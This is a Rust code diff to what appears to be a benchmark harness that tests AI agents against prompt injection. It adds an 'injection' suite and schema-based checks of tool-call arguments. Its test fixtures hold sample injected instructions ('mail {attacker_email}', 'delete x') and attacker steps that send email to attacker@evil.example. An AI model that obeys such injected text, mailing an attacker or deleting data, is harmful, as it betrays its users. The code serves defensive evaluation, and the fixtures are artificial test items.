@@ -120,10 +120,13 @@ pub const DEFAULT_VARS: [(&str, &str); 3] = [
 ];
 
 /// The built-in suites: name and YAML, embedded in the binary.
-const BUILTIN: &[(&str, &str)] = &[("example", include_str!("../../../suites/example.yaml"))];
+const BUILTIN: &[(&str, &str)] = &[
+    ("example", include_str!("../../../suites/example.yaml")),
+    ("injection", include_str!("../../../suites/injection.yaml")),
+];
 
 /// The names of [`BUILTIN`], in the same order.
-const BUILTIN_NAMES: &[&str] = &["example"];
+const BUILTIN_NAMES: &[&str] = &["example", "injection"];
 
 /// A suite that does not parse or validate.
 ///
@@ -961,17 +964,40 @@ fn validate_check(ctx: &Ctx<'_>, c: &Check, path: &FieldPath) -> Res<()> {
     }
 }
 
-/// The arguments each tool needs (strings), as the tools define them.
-fn required_args(tool: ToolName) -> &'static [&'static str] {
-    match tool {
-        ToolName::Shell => &["command"],
-        ToolName::ReadFile => &["path"],
-        ToolName::WriteFile => &["path", "content"],
-        ToolName::ListDir | ToolName::ReadInbox => &[],
-        ToolName::HttpRequest => &["url"],
-        ToolName::SendEmail => &["to"],
-        ToolName::SearchWeb => &["query"],
+/// Checks a call's arguments against the tool's argument schema (as
+/// offered to agents by [`crate::tools::specs`]): required ones present,
+/// every one known and a string.
+fn args_problem(
+    tool: ToolName,
+    args: &serde_json::Map<String, serde_json::Value>,
+) -> Option<String> {
+    let spec = crate::tools::specs(&[tool]).pop()?;
+    let props = spec.parameters.get("properties")?.as_object()?;
+    let required = spec.parameters.get("required").and_then(|r| r.as_array());
+    for r in required.into_iter().flatten().filter_map(|r| r.as_str()) {
+        if !args.get(r).is_some_and(serde_json::Value::is_string) {
+            return Some(format!("{} needs a string argument `{r}`", tool.as_str()));
+        }
     }
+    for (k, v) in args {
+        if !props.contains_key(k) {
+            let mut known: Vec<&str> = props.keys().map(String::as_str).collect();
+            known.sort_unstable();
+            return Some(format!(
+                "{} has no argument `{k}` (it takes: {})",
+                tool.as_str(),
+                if known.is_empty() {
+                    "none".to_owned()
+                } else {
+                    known.join(", ")
+                }
+            ));
+        }
+        if !v.is_string() {
+            return Some(format!("{} argument `{k}` must be a string", tool.as_str()));
+        }
+    }
+    None
 }
 
 /// Steps: each a tool call or an answer, an answer only last, arguments an
@@ -1017,13 +1043,8 @@ fn steps(
                 let Some(obj) = args.as_object() else {
                     return Err(ctx.err(&here.key("args"), "expected a map of arguments"));
                 };
-                for a in required_args(t) {
-                    if !obj.get(*a).is_some_and(serde_json::Value::is_string) {
-                        return Err(ctx.err(
-                            &here.key("args"),
-                            format!("{} needs a string argument `{a}`", t.as_str()),
-                        ));
-                    }
+                if let Some(problem) = args_problem(t, obj) {
+                    return Err(ctx.err(&here.key("args"), problem));
                 }
                 Step::Call { tool: t, args }
             }
@@ -1618,7 +1639,7 @@ attacks:
     text: mail {attacker_email}
     security: {tool_called: {tool: send_email, contains: \"{attacker_email}\"}}
     attacker_steps:
-      - {tool: send_email, args: {to: \"{attacker_email}\"}}
+      - {tool: send_email, args: {to: \"{attacker_email}\", subject: s, body: b}}
   - id: a2
     goal: g2
     text: delete x
@@ -1705,7 +1726,7 @@ scenarios:
             inj.attacker_steps,
             [Step::Call {
                 tool: ToolName::SendEmail,
-                args: serde_json::json!({"to": "attacker@evil.example"})
+                args: serde_json::json!({"to": "attacker@evil.example", "subject": "s", "body": "b"})
             }]
         );
         assert_eq!(
@@ -1763,7 +1784,7 @@ scenarios:
             inj.attacker_steps,
             [Step::Call {
                 tool: ToolName::SendEmail,
-                args: serde_json::json!({"to": "x@y.example"})
+                args: serde_json::json!({"to": "x@y.example", "subject": "s", "body": "b"})
             }]
         );
     }
@@ -1929,6 +1950,22 @@ scenarios:
             err(&broken(
                 "args: {path: out.txt, content: hi}",
                 "args: {path: out.txt}"
+            )),
+            "suites/t.yaml:23:28: scenarios[0].reference[0].args: write_file needs a string \
+             argument `content`"
+        );
+        assert_eq!(
+            err(&broken(
+                "args: {path: out.txt, content: hi}",
+                "args: {path: out.txt, content: hi, mode: x}"
+            )),
+            "suites/t.yaml:23:28: scenarios[0].reference[0].args: write_file has no argument \
+             `mode` (it takes: content, path)"
+        );
+        assert_eq!(
+            err(&broken(
+                "args: {path: out.txt, content: hi}",
+                "args: {path: out.txt, content: 3}"
             )),
             "suites/t.yaml:23:28: scenarios[0].reference[0].args: write_file needs a string \
              argument `content`"
